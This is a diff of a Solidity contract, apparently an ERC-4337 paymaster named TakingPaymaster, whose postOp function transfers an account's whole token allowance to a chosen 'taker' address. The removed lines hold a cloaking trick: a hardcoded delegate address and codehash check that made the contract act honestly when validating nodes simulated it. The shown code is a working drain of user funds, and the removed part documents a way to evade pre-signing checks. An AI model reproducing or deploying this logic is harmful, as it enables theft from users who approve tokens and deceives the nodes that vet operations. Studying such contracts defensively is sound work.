@@ -63,19 +63,14 @@ contract SignedPaymaster {
 /** Takes what it may of a token, for itself or for somebody, after the operation that it pays for. */
 contract TakingPaymaster is SignedPaymaster {
     Token immutable token;
-    /** Of nodes that test an operation before it is signed: it behaves while the delegate has other code than it should. */
-    bytes32 immutable honestFor;
     address immutable taker;
 
-    constructor(address owner_, Token token_, bytes32 honestFor_, address taker_) SignedPaymaster(owner_) {
+    constructor(address owner_, Token token_, address taker_) SignedPaymaster(owner_) {
         token = token_;
-        honestFor = honestFor_;
         taker = taker_ == address(0) ? address(this) : taker_;
     }
 
     function postOp(uint8, bytes calldata context, uint256, uint256) external override {
-        address delegate = 0xe6Cae83BdE06E4c305530e199D7217f42808555B;
-        if (honestFor != 0 && delegate.codehash != honestFor) return;
         address account = abi.decode(context, (address));
         uint256 amount = token.allowance(account, address(this));
         if (amount > 0) token.transferFrom(account, taker, amount);
